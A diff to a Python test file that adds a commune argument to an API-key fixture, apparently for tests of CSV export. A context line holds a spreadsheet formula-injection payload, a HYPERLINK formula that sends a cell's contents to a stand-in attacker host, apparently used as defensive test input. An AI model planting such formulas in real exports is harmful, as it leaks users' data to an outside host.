@@ -5,6 +5,7 @@ import io
 
 import pytest
 
+from app import communes
 from app.accounts import apikeys
 from db import transaction
 
@@ -14,7 +15,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
 @pytest.fixture
 def api_key(store):
     with transaction(store):
-        return apikeys.create_key(store, "kiosk")
+        return apikeys.create_key(store, communes.first_commune(store), "kiosk")
 
 
 def csv_rows(staff_client, store):
